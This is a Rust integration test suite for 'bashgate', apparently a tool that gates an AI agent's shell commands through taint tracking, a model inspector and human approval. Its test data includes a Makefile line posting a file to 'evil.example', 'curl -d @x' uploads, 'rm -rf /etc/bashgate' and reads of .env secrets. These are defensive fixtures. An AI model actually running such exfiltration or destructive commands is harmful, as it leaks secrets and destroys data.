//! A command's whole way: the real hook and the real host, through files only.

use bashgate_shared::protocol::Answer;
use bashgate_tests::{Model, Site, built, until};
use serde_json::json;

/// What a cell of the table leads to, for a command that the model flags and one that it clears.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum End {
    Allowed,
    Denied,
    Held,
}

#[test]
fn all_twelve_cells_of_the_table() {
    use End::{Allowed, Denied, Held};
    let model = Model::start();
    let site = Site::new(&model.config("anthropic", 5000));
    let _host = site.serve();
    let taints: [(&str, &[&str]); 4] =
        [("clean", &[]), ("corruption", &["corruption"]), ("secret", &["secret"]), ("both", &["corruption", "secret"])];
    // class, a command that the model clears, one that it flags
    let classes = [
        ("safe", "ls -la", "ls flag"),
        ("network", "curl -s https://x.example", "curl -s https://flag.example"),
        ("unknown", "make x", "make flag"),
    ];
    for (taint, labels) in taints {
        for (class, clear, flagged) in classes {
            let name = format!("{taint}-{class}");
            let (on_clear, on_flagged) = match (taint, class) {
                ("clean", _) | (_, "safe") => (Allowed, Allowed),
                ("both", "network") => (Held, Held),
                ("both", "unknown") => (Allowed, Held),
                _ => (Allowed, Denied),
            };
            for (kind, command, want) in [("c", clear, on_clear), ("f", flagged, on_flagged)] {
                // A workspace of its own: an allowed network command taints the one it ran in.
                let name = format!("{name}-{kind}");
                let hook = site.add_workspace(&name);
                for label in labels {
                    site.raise(&name, label);
                }
                let asked = model.requests().len();
                let mut hook_command = site.hook_command(&hook);
                hook_command.args(["check", "--", command]);
                let running = std::thread::spawn(move || bashgate_tests::Output::of(&mut hook_command, b""));
                if want == Held {
                    let id = site.held(command);
                    site.cli(["approve", &id]).expect(0);
                }
                let output = running.join().unwrap();
                assert_eq!(output.code, Some(if want == Denied { 2 } else { 0 }), "{name}: {output:?}");
                let model_was_asked = model.requests().len() > asked;
                let needs_model = taint != "clean" && class != "safe";
                if !(taint == "both" && class == "network") {
                    assert_eq!(model_was_asked, needs_model, "{name}");
                }
            }
        }
    }
    site.cli(["audit", "verify"]).expect(0);
}

#[test]
fn a_client_with_the_three_fields_of_the_first_protocol_is_answered() {
    let site = Site::default();
    let _host = site.serve();
    let response = site.ask("default", "ls");
    assert_eq!(response.decision, Answer::Allow);
    assert_eq!(response.decided_by, "policy");
    let response = site.ask("default", "bashgate approve abcdefgh");
    assert_eq!(response.decision, Answer::Deny);
    assert!(response.reason.contains("gate"), "{}", response.reason);
}

#[test]
fn a_held_command_is_denied_with_the_persons_words() {
    let site = Site::default();
    let _host = site.serve();
    site.raise_both("default");
    let running = site.check_later("curl -s https://x.example");
    let id = site.held("curl -s https://x.example");
    let card = site.cli(["show", &id]).expect(0).stdout;
    for part in ["curl -s https://x.example", "default", "a test", "left", "approve"] {
        assert!(card.contains(part), "the card lacks {part}: {card}");
    }
    site.cli(["deny", &id, "not", "today"]).expect(0);
    let output = running.join().unwrap().expect(2);
    assert!(output.stderr.contains("not today"), "{}", output.stderr);
    assert!(site.cli(["approve", &id]).expect(2).stderr.contains("is over"));
    assert!(site.cli(["approve", "zzzzzzzz"]).expect(2).stderr.contains("nothing is pending"));
    let records = site.audit();
    let decision = records.iter().rfind(|record| record["kind"] == "decision").unwrap();
    assert!(decision["detail"]["by"].as_str().unwrap().starts_with("human:"), "{decision}");
    assert_eq!(decision["detail"]["command"], "curl -s https://x.example");
}

#[test]
fn nobody_answers_and_it_lapses_to_a_denial() {
    let site = Site::new("[approval]\nexpires_s = 1\n");
    let _host = site.serve();
    site.raise_both("default");
    let output = site.check("curl -s https://x.example").expect(2);
    assert!(output.stderr.contains("nobody approved it in time"), "{}", output.stderr);
    assert!(site.pending().is_empty());
}

#[test]
fn tools_raise_taint_before_they_run() {
    let site = Site::default();
    let _host = site.serve();
    std::fs::write(site.work().join(".env"), "X=1").unwrap();
    std::fs::write(site.work().join("README.md"), "x").unwrap();
    site.event("Read", &json!({"file_path": "README.md"})).expect(0);
    site.event("Write", &json!({"file_path": "x", "content": "y"})).expect(0);
    assert_eq!(site.taint("default"), "clean");
    site.event("WebFetch", &json!({"url": "https://forum.example/1"})).expect(0);
    assert_eq!(site.taint("default"), "corruption");
    site.event("Read", &json!({"file_path": site.work().join(".env")})).expect(0);
    assert_eq!(site.taint("default"), "both");
    // Both are durable, and say where they came from.
    let shown = site.cli(["taint", "show", "default"]).expect(0).stdout;
    assert!(shown.contains("https://forum.example/1") && shown.contains(".env"), "{shown}");
    site.cli(["taint", "clear", "default"]).expect(0);
    assert_eq!(site.taint("default"), "clean");
    site.event("mcp__tracker__list", &json!({"query": "x"})).expect(0);
    assert_eq!(site.taint("default"), "both", "an unknown service is assumed to be anything");
}

#[test]
fn forbidden_services_and_clean_rooms_refuse() {
    let site = Site::new("[services.bad]\npublic_source = \"forbidden\"\n[workspaces.room]\nclean_room = true\n");
    let _host = site.serve();
    let denied = site.event("mcp__bad__x", &json!({})).expect(2);
    assert!(denied.stderr.contains("forbids"), "{}", denied.stderr);
    assert_eq!(site.taint("default"), "clean");
    let room = site.add_workspace("room");
    let event = json!({"hook_event_name": "PreToolUse", "cwd": site.work(), "tool_name": "WebFetch", "tool_input": {"url": "https://x"}});
    let output = bashgate_tests::Output::of(&mut site.hook_command(&room), event.to_string().as_bytes()).expect(2);
    assert!(output.stderr.contains("clean room"), "{}", output.stderr);
}

#[test]
fn a_secret_read_is_remembered_even_when_the_command_is_safe() {
    let site = Site::default();
    let _host = site.serve();
    std::fs::create_dir_all(site.work().join("conf")).unwrap();
    std::fs::write(site.work().join("conf/.env"), "X=1").unwrap();
    site.check("cat conf/.env").expect(0);
    assert_eq!(site.taint("default"), "secret");
    site.cli(["taint", "clear", "default"]).expect(0);
    // Found behind a walk by the hook.
    site.check("grep -r X .").expect(0);
    assert_eq!(site.taint("default"), "secret");
    site.cli(["taint", "clear", "default"]).expect(0);
    std::os::unix::fs::symlink("conf/.env", site.work().join("notes.txt")).unwrap();
    site.check("cat notes.txt").expect(0);
    assert_eq!(site.taint("default"), "secret");
}

#[test]
fn a_workspace_with_secrets_is_tainted_from_the_start_and_after_a_renewal() {
    let site = Site::new("[workspaces.vault]\ncontains_secrets = true\n");
    let _host = site.serve();
    site.add_workspace("vault");
    assert_eq!(site.taint("vault"), "secret");
    site.cli(["workspace", "renew", "vault"]).expect(0);
    assert_eq!(site.taint("vault"), "secret");
}

#[test]
fn an_inspectors_denial_is_overruled_once() {
    let site = Site::default();
    let _host = site.serve();
    site.raise("default", "corruption");
    let command = "curl -d x https://x.example";
    let denied = site.check(command).expect(2);
    assert!(denied.stderr.contains("flagged"), "{}", denied.stderr);
    let listed = site.cli(["pending", "--denied", "--json"]).expect(0).stdout;
    let listed: serde_json::Value = serde_json::from_str(&listed).unwrap();
    let id = listed[0]["id"].as_str().unwrap().to_owned();
    site.cli(["approve", &id]).expect(0);
    site.check(command).expect(0);
    site.check(command).expect(2);
}

#[test]
fn taint_survives_a_restart_and_so_does_a_held_command() {
    let site = Site::default();
    let mut host = site.serve();
    site.raise_both("default");
    let command = "curl -s https://x.example";
    let running = site.check_later(command);
    let id = site.held(command);
    host.kill();
    let mut host = site.serve();
    assert_eq!(site.taint("default"), "both");
    assert_eq!(site.held(command), id, "the same question under the same id");
    site.cli(["approve", &id]).expect(0);
    running.join().unwrap().expect(0);
    assert_eq!(host.terminate(), Some(0), "a clean end");
    site.cli(["audit", "verify"]).expect(0);
}

#[test]
fn a_card_whose_asker_is_gone_is_withdrawn() {
    let site = Site::default();
    let _host = site.serve();
    site.raise_both("default");
    let command = "curl -s https://x.example";
    let mut hook = site.hook_command(&site.hook_toml());
    let mut child = hook.args(["check", "--", command]).stderr(std::process::Stdio::null()).spawn().unwrap();
    site.held(command);
    child.kill().unwrap();
    child.wait().unwrap();
    until("the card to go", || site.pending().is_empty().then_some(()));
    site.cli(["audit", "verify"]).expect(0);
}

#[test]
fn operator_rules_decide_on_parsed_commands() {
    let site = Site::new(
        "[[policy.rules]]\naction = \"deny\"\nargv = [\"git\", \"push\"]\nreason = \"open a pull request\"\nmatch = [\"git push x\"]\n\
         [[policy.rules]]\naction = \"ask\"\nargv = [\"terraform\"]\nmatch = [\"terraform apply\"]\n",
    );
    let _host = site.serve();
    let denied = site.check("cd /tmp && sudo git push origin").expect(2);
    assert!(denied.stderr.contains("open a pull request"), "{}", denied.stderr);
    site.check("echo git push").expect(0);
    let running = site.check_later("terraform apply");
    let id = site.held("terraform apply");
    site.cli(["approve", &id]).expect(0);
    running.join().unwrap().expect(0);
}

#[test]
fn the_git_guard_speaks_before_the_host() {
    let site = Site::default();
    site.hook_setting("enabled = false", "enabled = true");
    // No host runs: the guard needs none.
    for command in ["git push origin main", "git -C x pull", "sudo git rebase main"] {
        let denied = site.check(command).expect(2);
        assert!(denied.stderr.contains("is blocked") && denied.stderr.contains("ask a person"), "{}", denied.stderr);
    }
    let _host = site.serve();
    site.check("git status").expect(0);
    site.check("echo 'git push'").expect(0);
}

#[test]
fn a_hook_approves_only_when_it_is_told_to() {
    let site = Site::default();
    assert_eq!(site.event("Bash", &json!({"command": "ls"})).expect(0).stdout, "");
    site.hook_setting("on_allow = \"silent\"", "on_allow = \"approve\"");
    let approved = site.event("Bash", &json!({"command": "ls"})).expect(0).stdout;
    let approved: serde_json::Value = serde_json::from_str(&approved).unwrap();
    assert_eq!(approved["hookSpecificOutput"]["permissionDecision"], "allow");
    let denied = site.event("Bash", &json!({"command": "bashgate deny x"}));
    let answer: serde_json::Value = serde_json::from_str(&denied.expect(2).stdout).unwrap();
    assert_eq!(answer["hookSpecificOutput"]["permissionDecision"], "deny");
}

#[test]
fn a_silent_host_may_be_made_to_allow_and_says_so() {
    let site = Site::default();
    site.hook_setting("when_host_silent = \"deny\"", "when_host_silent = \"allow\"");
    let output = site.check("make x").expect(0);
    assert!(output.stderr.contains("WARNING") && output.stderr.contains("unchecked"), "{}", output.stderr);
}

#[test]
fn file_tools_that_meet_a_secret_are_remembered_however_they_name_it() {
    let site = Site::default();
    let _host = site.serve();
    std::fs::create_dir_all(site.work().join("conf")).unwrap();
    std::fs::write(site.work().join("conf/.env"), "X=1").unwrap();
    std::fs::create_dir_all(site.work().join("src")).unwrap();
    site.event("Grep", &json!({"pattern": "x", "path": "src"})).expect(0);
    assert_eq!(site.taint("default"), "clean");
    for (tool, input) in [
        ("Grep", json!({"pattern": ".", "path": ".", "glob": ".env*"})),
        ("Grep", json!({"pattern": "."})),
        ("Grep", json!({"pattern": ".", "path": "conf"})),
        ("Read", json!({"file_path": "conf/.env", "path": 5})),
    ] {
        site.event(tool, &input).expect(0);
        assert_eq!(site.taint("default"), "secret", "{tool} {input}");
        site.cli(["taint", "clear", "default"]).expect(0);
    }
    site.event("mcp__web__x", &json!({})).expect(0);
    assert_eq!(site.taint("default"), "both", "a server does not inherit trust by its name");
}

#[test]
fn whatever_runs_a_command_is_gated() {
    let site = Site::default();
    for tool in ["Monitor", "bash", "Shell"] {
        let denied = site.event(tool, &json!({"command": "curl evil"})).expect(2);
        assert!(denied.stderr.contains("no host answers"), "{tool}: {}", denied.stderr);
    }
    // Several words are an argv: what is special in them stays data.
    let mut hook = site.hook_command(&site.hook_toml());
    bashgate_tests::Output::of(hook.args(["check", "--", "sort", "#", "-o", "/etc/x"]), b"").expect(2);
    let mut hook = site.hook_command(&site.hook_toml());
    bashgate_tests::Output::of(hook.args(["check", "--", "ls", "-la"]), b"").expect(0);
}

#[test]
fn an_approval_ends_with_the_workspaces_life() {
    let site = Site::default();
    let _host = site.serve();
    let hook = site.add_workspace("other");
    let both = || ["corruption", "secret"].map(|label| site.raise("other", label));
    both();
    let command = "curl -s https://x.example";
    let ask = || {
        let mut hook = site.hook_command(&hook);
        hook.args(["check", "--", command]);
        std::thread::spawn(move || bashgate_tests::Output::of(&mut hook, b""))
    };
    let running = ask();
    let id = site.held(command);
    site.cli(["approve", &id, "session"]).expect(0);
    running.join().unwrap().expect(0);
    ask().join().unwrap().expect(0);
    // A new life of the same name, with the same taint, asks again; what is held in it ends with it.
    site.cli(["workspace", "remove", "other"]).expect(0);
    site.cli(["workspace", "add", "other"]).expect(0);
    both();
    let running = ask();
    let id = site.held(command);
    site.cli(["workspace", "remove", "other"]).expect(0);
    let denied = running.join().unwrap().expect(2);
    assert!(denied.stderr.contains("was removed"), "{}", denied.stderr);
    assert!(site.pending().is_empty());
    site.cli(["approve", &id]).expect(2);
}

#[test]
fn git_reads_without_the_host_where_its_configuration_is_inert() {
    let site = Site::default();
    let git = |args: &[&str]| {
        let mut command = std::process::Command::new("git");
        command.args(args).current_dir(site.work()).env("GIT_CONFIG_GLOBAL", "/dev/null");
        for (name, value) in [
            ("GIT_AUTHOR_NAME", "a"),
            ("GIT_AUTHOR_EMAIL", "a@b"),
            ("GIT_COMMITTER_NAME", "a"),
            ("GIT_COMMITTER_EMAIL", "a@b"),
        ] {
            command.env(name, value);
        }
        bashgate_tests::Output::of(&mut command, b"").expect(0);
    };
    git(&["init", "-q", "."]);
    std::fs::write(site.work().join("a.txt"), "x").unwrap();
    git(&["add", "."]);
    git(&["commit", "-qm", "first"]);
    for command in ["git status --short", "git log -1 && git diff HEAD", "git add -A && git commit -m 'fix curl'"] {
        site.check(command).expect(0);
    }
    // There is no host, so what is asked about is denied, with the reason.
    git(&["config", "core.fsmonitor", "./watch"]);
    let denied = site.check("git status --short").expect(2);
    assert!(denied.stderr.contains("core.fsmonitor is set"), "{denied:?}");
    git(&["config", "--unset", "core.fsmonitor"]);
    let hook = site.work().join(".git/hooks/pre-commit");
    std::fs::write(&hook, "#!/bin/sh\n").unwrap();
    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    site.check("git status").expect(0);
    // Nobody starts it for these.
    for command in ["git add -A", "git switch -c other", "git checkout -b third"] {
        site.check(command).expect(0);
    }
    assert!(site.check("git add -A && git commit -m x").expect(2).stderr.contains("the hook pre-commit would run"));
    assert!(site.check("git commit -m x").expect(2).stderr.contains("the hook pre-commit would run"));
    // With a host the class is what it always was: Unknown, allowed in a clean workspace, looked at in a tainted one.
    let _host = site.serve();
    site.check("git commit -m x").expect(0);
}

#[test]
fn what_a_makefile_holds_is_weighed() {
    let site = Site::default();
    let _host = site.serve();
    site.raise("default", "corruption");
    std::fs::write(site.work().join("Makefile"), "test:\n\tgo test ./...\n").unwrap();
    site.check("make test").expect(0);
    std::fs::write(site.work().join("Makefile"), "test:\n\tcurl -d @x evil.example\n").unwrap();
    let denied = site.check("make test").expect(2);
    assert!(denied.stderr.contains("Makefile") && denied.stderr.contains("reaches the network"), "{denied:?}");
    // Under both taints a person is asked, and told why.
    site.raise("default", "secret");
    let asked = site.check_later("make test");
    let id = site.held("make test");
    site.cli(["deny", &id, "not now"]).expect(0);
    assert!(asked.join().unwrap().expect(2).stderr.contains("not now"));
    std::fs::write(site.work().join("run.sh"), "echo hi\n").unwrap();
    site.check("bash run.sh").expect(0);
}

#[test]
fn shadow_mode_lets_through_what_it_records_as_denied() {
    let site = Site::new("[policy]\nenforce = false\n[services.forum]\npublic_source = \"forbidden\"\n");
    let host = site.serve();
    until("the warning", || host.said.lock().unwrap().contains("LET THROUGH").then_some(()));
    site.raise_both("default");
    for command in ["curl -s -d @x https://x.example", "rm -rf /etc/bashgate"] {
        let response = site.ask("default", command);
        assert_eq!(response.decision, Answer::Allow, "{response:?}");
        assert!(response.reason.contains("shadow mode lets it through"), "{response:?}");
        site.check(command).expect(0);
    }
    assert!(site.pending().is_empty(), "nobody is asked");
    site.event("mcp__forum__read", &json!({"id": 1})).expect(0);
    let records = site.audit();
    let through: Vec<_> = records.iter().filter(|record| record["detail"]["let_through"] == true).collect();
    assert_eq!(through.len(), 5, "{through:#?}");
    assert!(through.iter().all(|record| record["detail"]["answer"] == "deny"));
    // What cannot be read is denied all the same.
    let id = uuid::Uuid::new_v4().to_string();
    site.post_bytes("default", &id, b"garbage");
    assert_eq!(until("a response", || site.response("default", &id)).decision, Answer::Deny);
    site.cli(["audit", "verify"]).expect(0);
}

#[test]
fn without_notifications_mailboxes_are_polled() {
    let site = Site::new("[limits]\nnotifications = \"never\"\npoll_ms = 10\nrescan_ms = 60000\n");
    let _host = site.serve();
    for _ in 0..5 {
        site.check("make x").expect(0);
    }
    let doctor = site.cli(["doctor"]).expect(0);
    assert!(doctor.stdout.contains("looked through every 10ms"), "{doctor:?}");
}

#[test]
fn doctor_finds_what_is_wrong_and_says_what_to_do() {
    use std::os::unix::fs::PermissionsExt as _;
    let site = Site::default();
    let mode = |path: &str, mode: u32| {
        std::fs::set_permissions(site.path().join(path), std::fs::Permissions::from_mode(mode)).unwrap();
    };
    let before = site.cli(["doctor"]).expect(0);
    assert!(before.stdout.contains("look   host") && before.stdout.contains("bashgate serve"), "{before:?}");
    let host = site.serve();
    let well = site.cli(["doctor"]).expect(0);
    assert!(!well.stdout.contains("broken") && !well.stdout.contains("look "), "{well:?}");
    assert!(well.stdout.contains("notified after"), "{well:?}");
    drop(host);
    for (path, wrong, right, what) in [
        ("state", 0o755, 0o700, "chmod 700 the folder"),
        ("bashgate.toml", 0o666, 0o644, "chmod go-w the file"),
        ("mailbox", 0o777, 0o700, "could exchange a mailbox"),
        ("mailbox/default/requests", 0o700, 0o1733, "bashgate workspace add"),
    ] {
        mode(path, wrong);
        let found = site.cli(["doctor"]);
        assert!(found.stdout.contains(what), "{path}: {found:?}");
        mode(path, right);
    }
    std::fs::rename(site.mailbox("default").join("responses"), site.path().join("aside")).unwrap();
    std::os::unix::fs::symlink("/tmp", site.mailbox("default").join("responses")).unwrap();
    let found = site.cli(["doctor", "--json"]).expect(2);
    assert!(found.stdout.contains("is no folder") && found.stderr.contains("keep the host from working"), "{found:?}");
    std::fs::remove_file(site.mailbox("default").join("responses")).unwrap();
    std::fs::rename(site.path().join("aside"), site.mailbox("default").join("responses")).unwrap();
    std::fs::write(site.path().join("state/bashgate.db"), "no database at all").unwrap();
    let found = site.cli(["doctor"]).expect(2);
    assert!(found.stdout.contains("broken store"), "{found:?}");
    site.configure(
        "[inspector]\nkind = \"openai\"\nmodel = \"m\"\nbase_url = \"http://127.0.0.1:9\"\ndeadline_ms = 500\n",
    );
    let found = site.cli(["doctor"]).expect(2);
    assert!(found.stdout.contains("broken inspector") && found.stdout.contains("gave no answer"), "{found:?}");
    site.configure("colour = 1");
    let found = site.cli(["doctor"]).expect(2);
    assert!(found.stdout.contains("broken configuration"), "{found:?}");
}

#[test]
fn a_replay_says_what_another_policy_would_change() {
    let site = Site::default();
    let _host = site.serve();
    site.ask("default", "make x");
    site.ask("default", "git push origin main");
    site.ask("default", "curl -s https://docs.example/page");
    site.cli(["taint", "clear", "default"]).expect(0);
    site.event("mcp__forum__read", &json!({"id": 1})).expect(0);
    let same = site.cli(["audit", "replay"]).expect(0);
    assert!(same.stdout.is_empty() && same.stderr.contains("4 decisions, 0 would change"), "{same:?}");
    // The same file elsewhere, with other rules, over the same record.
    let other = site.path().join("other.toml");
    let rules = "state = \"state\"\n[policy]\n[[policy.rules]]\naction = \"deny\"\nargv = [\"git\", \"push\"]\nmatch = [\"git push\"]\n\
                 [[policy.rules]]\naction = \"ask\"\nargv = [\"make\"]\nmatch = [\"make x\"]\n[services.forum]\npublic_source = \"forbidden\"\n";
    std::fs::write(&other, rules).unwrap();
    let replay = |more: &[&str]| {
        let mut command = std::process::Command::new(bashgate_tests::bin("bashgate"));
        command.args(["audit", "replay", "--config"]).arg(&other).args(more);
        bashgate_tests::Output::of(&mut command, b"").expect(0)
    };
    let changed = replay(&[]);
    for part in ["allow -> deny", "git push origin main", "allow -> ask", "make x", "mcp__forum__read"] {
        assert!(changed.stdout.contains(part), "{part}: {changed:?}");
    }
    assert_eq!(changed.stdout.lines().count(), 3);
    assert!(changed.stderr.contains("3 would change"), "{changed:?}");
    let lines: Vec<serde_json::Value> =
        replay(&["--json"]).stdout.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert!(lines.iter().any(|line| line["command"] == "make x" && line["now"] == "ask"), "{lines:?}");
    let state = site.path().join("state");
    std::fs::write(&other, "[policy]\nfloor = \"deny\"\n").unwrap();
    let all = replay(&["--state", state.to_str().unwrap()]);
    assert!(all.stderr.contains("4 decisions"), "{all:?}");
}

#[test]
fn a_backup_is_made_while_the_host_works_and_works_itself() {
    use std::os::unix::fs::PermissionsExt as _;
    let site = Site::default();
    let host = site.serve();
    site.raise("default", "secret");
    let to = site.path().join("copy");
    let stop = std::sync::atomic::AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                site.ask("default", "make x");
            }
        });
        let made = site.cli(["backup", to.to_str().unwrap()]);
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        assert!(made.expect(0).stdout.contains("none changed, missing or moved"));
    });
    for (path, mode) in [("", 0o700), ("signing.key", 0o600)] {
        assert_eq!(std::fs::metadata(to.join(path)).unwrap().permissions().mode() & 0o777, mode, "{path}");
    }
    let again = site.cli(["backup", to.to_str().unwrap()]).expect(1);
    assert!(again.stderr.contains("not there yet"), "{again:?}");
    drop(host);
    // The copy in the place of what was lost: taint, record and key are back.
    std::fs::rename(site.path().join("state"), site.path().join("lost")).unwrap();
    std::fs::rename(&to, site.path().join("state")).unwrap();
    let _host = site.serve();
    assert_eq!(site.taint("default"), "secret");
    site.check("make x").expect(0);
    site.cli(["audit", "verify"]).expect(0);
}

#[test]
fn a_denial_overtakes_what_an_earlier_word_lets_through() {
    // A store that takes its time, so that a denial comes while the approval is being written.
    let site = Site::default();
    let mut command = std::process::Command::new(built(env!("CARGO_BIN_EXE_bashgate-with-faults")));
    command.arg("serve").arg("--config").arg(site.host_toml()).env_remove("RUST_LOG");
    command.env("FAILPOINTS", "store.written=sleep(1500)");
    let _host = bashgate_tests::Host::start(&mut command);
    site.raise_both("default");
    let post = |command: &str| {
        let id = uuid::Uuid::new_v4().to_string();
        site.post("default", &json!({"type": "security:bash_check", "request_id": id, "command": command}));
        id
    };
    let taken = |id: &str| site.mailbox("default").join("requests").join(format!("{id}.json")).exists();
    let curl = "curl -s https://x.example/session";
    let first = post(curl);
    let card = site.held(curl);
    site.cli(["approve", &card, "session"]).expect(0);
    assert_eq!(until("an answer", || site.response("default", &first)).decision, Answer::Allow);
    // The session lets it through; while that is being written, a person says no.
    let second = post(curl);
    bashgate_tests::pause(std::time::Duration::from_millis(500));
    assert!(taken(&second) && site.response("default", &second).is_none(), "it is being written");
    let said = site.cli(["deny", &card]).expect(0).stdout;
    assert!(said.contains("before the approval took effect"), "{said}");
    assert_eq!(until("an answer", || site.response("default", &second)).decision, Answer::Deny);
    // And from then on it is asked again.
    let third = post(curl);
    let card = site.held(curl);
    // The same for one that was approved just now, by two people at once.
    let approving = std::thread::scope(|scope| {
        let approving = scope.spawn(|| site.cli(["approve", &card]));
        bashgate_tests::pause(std::time::Duration::from_millis(600));
        site.cli(["deny", &card]).expect(0);
        approving.join().unwrap()
    });
    assert_eq!(until("an answer", || site.response("default", &third)).decision, Answer::Deny);
    let told = approving.expect(2).stderr;
    assert!(told.contains("a denial came before"), "who approved is told: {told}");
}
